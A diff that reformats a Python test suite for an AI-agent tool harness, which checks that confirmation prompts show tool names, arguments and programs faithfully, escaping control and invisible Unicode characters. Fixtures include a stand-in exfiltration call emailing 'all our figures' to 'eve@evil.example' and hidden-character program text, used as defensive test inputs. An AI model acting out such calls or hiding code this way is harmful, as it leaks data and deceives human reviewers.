@@ -55,7 +55,11 @@ for line in sys.stdin:
 
 @pytest.fixture
 def env(tmp_path):
-    known = {key: value for key, value in os.environ.items() if not key.startswith(("ATC_", "XDG_", "OPENAI_"))}
+    known = {
+        key: value
+        for key, value in os.environ.items()
+        if not key.startswith(("ATC_", "XDG_", "OPENAI_"))
+    }
     homes = {"XDG_CONFIG_HOME": str(tmp_path / "user"), "XDG_STATE_HOME": str(tmp_path / "state")}
     return known | homes | {"PYTHONPATH": str(ROOT), "TERM": "dumb"}
 
@@ -84,8 +88,13 @@ class Dialogs:
         self.told = folder / "serve.err"
         pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
         with self.told.open("w") as told:
-            self.process = subprocess.Popen(command, cwd=folder, env=env, text=True, stderr=told, **pipes)
-        hello = {"capabilities": {"elicitation": elicitation or {}}, "clientInfo": {"name": "c", "version": "1"}}
+            self.process = subprocess.Popen(
+                command, cwd=folder, env=env, text=True, stderr=told, **pipes
+            )
+        hello = {
+            "capabilities": {"elicitation": elicitation or {}},
+            "clientInfo": {"name": "c", "version": "1"},
+        }
         self.asked = []
         self.send("initialize", protocolVersion=version, **hello)
         self.write({"jsonrpc": "2.0", "method": "notifications/initialized"})
@@ -123,18 +132,29 @@ def served(tmp_path, env):
     def start(tools, *options, **how):
         (tmp_path / "server.py").write_text(SERVER)
         (tmp_path / "tools.json").write_text(json.dumps(tools))
-        command = shlex.join([sys.executable, str(tmp_path / "server.py"), str(tmp_path / "tools.json")])
+        command = shlex.join(
+            [sys.executable, str(tmp_path / "server.py"), str(tmp_path / "tools.json")]
+        )
         given = ["--tools", f"cal=mcp:{command}", "--start-servers"]
         listed = subprocess.run(
-            [sys.executable, "-c", MAIN, "tools", "list", *given, "--json"], env=env, cwd=tmp_path, capture_output=True
+            [sys.executable, "-c", MAIN, "tools", "list", *given, "--json"],
+            env=env,
+            cwd=tmp_path,
+            capture_output=True,
         )
-        return Dialogs(tmp_path, env, *given, *options, **how), [tool["alias"] for tool in json.loads(listed.stdout)]
+        return Dialogs(tmp_path, env, *given, *options, **how), [
+            tool["alias"] for tool in json.loads(listed.stdout)
+        ]
 
     return start
 
 
 def offered(name, **properties):
-    return {"name": name, "description": "", "inputSchema": {"type": "object", "properties": properties}}
+    return {
+        "name": name,
+        "description": "",
+        "inputSchema": {"type": "object", "properties": properties},
+    }
 
 
 def test_no_name_of_a_tool_or_an_argument_writes_the_question(served):
@@ -154,22 +174,38 @@ def test_no_name_of_a_tool_or_an_argument_writes_the_question(served):
 
 def test_no_value_writes_the_question_and_what_decides_is_first_and_last(served):
     text = {"type": "string"}
-    tools = [offered("send_mail", body={}, to=text), offered("pay", note={}, amount={"type": "number"})]
+    tools = [
+        offered("send_mail", body={}, to=text),
+        offered("pay", note={}, amount={"type": "number"}),
+    ]
     dialogs, [send_mail, pay] = served(tools)
     with dialogs:
         for name in NAMES.values():
             body = {name: [name, {"deep": name}], "many": [0] * 200}
             call = f"{send_mail}(body={body!r}, to='eve@evil.example')"
             dialogs.send("tools/call", name="run_program", arguments={"source": call})
-        dialogs.send("tools/call", name="run_program", arguments={"source": f"{pay}(note={BAD!r}, amount=90)"})
-        dialogs.send("tools/call", name="run_program", arguments={"source": f"{send_mail}(to='a\\nb' * 999, body='')"})
+        dialogs.send(
+            "tools/call",
+            name="run_program",
+            arguments={"source": f"{pay}(note={BAD!r}, amount=90)"},
+        )
+        dialogs.send(
+            "tools/call",
+            name="run_program",
+            arguments={"source": f"{send_mail}(to='a\\nb' * 999, body='')"},
+        )
     assert len(dialogs.asked) == len(NAMES) + 2
     for question in dialogs.asked:
         check(question)
-        lines = [[line.strip() for line in part.splitlines() if "argument" in line] for part in question.split("\n\n")]
+        lines = [
+            [line.strip() for line in part.splitlines() if "argument" in line]
+            for part in question.split("\n\n")
+        ]
         _, shown, *_, decides = lines
         assert shown[: len(decides)] == decides
-        assert any(line.startswith(("argument 'to' = ", "argument 'amount' = 90")) for line in decides)
+        assert any(
+            line.startswith(("argument 'to' = ", "argument 'amount' = 90")) for line in decides
+        )
     assert re.search(r"'a\\nba.*' … '.*a\\nb' \(2,997 characters\)", dialogs.asked[-1])
 
 
@@ -185,7 +221,9 @@ def test_a_client_that_shows_no_forms_is_asked_nothing_and_a_person_is_told_of_t
 
 def test_a_document_covers_nothing_that_is_asked_about_and_nothing_is_left_out(served):
     secret = {"type": "string", "format": "password", "writeOnly": True, "x-atc-secret": True}
-    dialogs, [send_mail, order] = served([offered("send_mail", to=secret, body=secret), offered("order", lines={})])
+    dialogs, [send_mail, order] = served(
+        [offered("send_mail", to=secret, body=secret), offered("order", lines={})]
+    )
     with dialogs:
         call = f"{send_mail}(to='eve@evil.example', body='all our figures')"
         dialogs.send("tools/call", name="run_program", arguments={"source": call})
@@ -211,7 +249,9 @@ def at_a_terminal(folder, env, *words, typed=(b"n\n",)):
         with suppress(OSError):  # the end of a terminal
             while part := os.read(ours, 65_536):
                 said += part
-                if said.endswith(b"[y/N]: "):  # what is typed before the question is there is no answer
+                if said.endswith(
+                    b"[y/N]: "
+                ):  # what is typed before the question is there is no answer
                     os.write(ours, next(answers, b""))
         os.close(ours)
     return said.decode().replace("\r\n", "\n"), process.returncode
@@ -219,7 +259,11 @@ def at_a_terminal(folder, env, *words, typed=(b"n\n",)):
 
 def test_a_question_at_the_terminal_is_written_the_same_way(tmp_path, env):
     bad = NAMES["line ends"]
-    amount = {"type": "object", "properties": {"amount": {"type": "number"}, bad: {}}, "required": ["amount"]}
+    amount = {
+        "type": "object",
+        "properties": {"amount": {"type": "number"}, bad: {}},
+        "required": ["amount"],
+    }
     with serving(lambda _: Reply(body={})) as server:
         binding = {"http": {"method": "POST", "url": f"{server.url}/pay"}}
         document = {"name": f"pay {bad}", "inputSchema": amount, "binding": binding}
@@ -244,7 +288,16 @@ def test_a_line_that_was_typed_before_a_question_does_not_answer_it(tmp_path, en
         )
         program = "note(text='first')\nnote(text='second')\nprint('done')"
         (tmp_path / "replies.json").write_text(json.dumps([f"```python\n{program}\n```"]))
-        words = ("run", "Do it.", "--tools", "tools", "--model", "scripted:replies.json", "--strategy", "chain")
+        words = (
+            "run",
+            "Do it.",
+            "--tools",
+            "tools",
+            "--model",
+            "scripted:replies.json",
+            "--strategy",
+            "chain",
+        )
         said, code = at_a_terminal(tmp_path, env, *words, typed=(b"y\ny\n", b"n\n"))
         assert [json.loads(seen.body) for seen in server.seen] == [{"text": "first"}]
     assert (code, said.count("Send it?")) == (1, 2)
@@ -253,7 +306,9 @@ def test_a_line_that_was_typed_before_a_question_does_not_answer_it(tmp_path, en
 def test_a_command_that_is_to_be_started_is_shown_in_our_words(tmp_path, env):
     pytest.importorskip("mcp", reason="the MCP SDK (extra 'mcp') is not installed")
     command = ["start-me", NAMES["line ends"], NAMES["direction"], NAMES["long"], "last"]
-    said, code = at_a_terminal(tmp_path, env, "tools", "list", "--tools", f"mcp:{shlex.join(command)}")
+    said, code = at_a_terminal(
+        tmp_path, env, "tools", "list", "--tools", f"mcp:{shlex.join(command)}"
+    )
     question = said[said.index("May this command be started?") : said.index("Start it?")]
     check(question)
     assert code == 3
@@ -265,9 +320,23 @@ def test_the_plan_of_a_probing_quotes_what_is_no_plain_name(tmp_path, env):
     (tmp_path / "tools").mkdir()
     for number, name in enumerate(NAMES.values()):
         binding = {"http": {"method": "POST", "url": "http://127.0.0.1:9/x"}}
-        (tmp_path / "tools" / f"{number}.json").write_text(json.dumps({"name": name, "binding": binding}))
-    command = [sys.executable, "-c", MAIN, "probe", "tools", "--dry-run", "--allow-writes", "--model", "none"]
-    planned = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False)
+        (tmp_path / "tools" / f"{number}.json").write_text(
+            json.dumps({"name": name, "binding": binding})
+        )
+    command = [
+        sys.executable,
+        "-c",
+        MAIN,
+        "probe",
+        "tools",
+        "--dry-run",
+        "--allow-writes",
+        "--model",
+        "none",
+    ]
+    planned = subprocess.run(
+        command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False
+    )
     assert planned.returncode == 0, planned.stderr
     check("".join(f"    {line}\n" for line in planned.stdout.splitlines()))
 
@@ -275,9 +344,21 @@ def test_the_plan_of_a_probing_quotes_what_is_no_plain_name(tmp_path, env):
 def test_a_program_that_is_only_shown_hides_nothing(tmp_path, env):
     program = "# a\u200bb\u202ec\u2066\u3164\nprint('\u00ad')"
     (tmp_path / "replies.json").write_text(json.dumps([f"```python\n{program}\n```"]))
-    (tmp_path / "desk.py").write_text('def look() -> int:\n    """read_only = True"""\n    return 1\n')
-    options = ("--tools", "desk.py", "--model", "scripted:replies.json", "--strategy", "chain", "--dry-run")
+    (tmp_path / "desk.py").write_text(
+        'def look() -> int:\n    """read_only = True"""\n    return 1\n'
+    )
+    options = (
+        "--tools",
+        "desk.py",
+        "--model",
+        "scripted:replies.json",
+        "--strategy",
+        "chain",
+        "--dry-run",
+    )
     command = [sys.executable, "-c", MAIN, "run", "Look.", *options]
-    shown = subprocess.run(command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False)
+    shown = subprocess.run(
+        command, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120, check=False
+    )
     assert shown.stdout == "# a\\u200bb\\u202ec\\u2066\\u3164\nprint('\\xad')\n", shown.stderr
     check(shown.stderr)
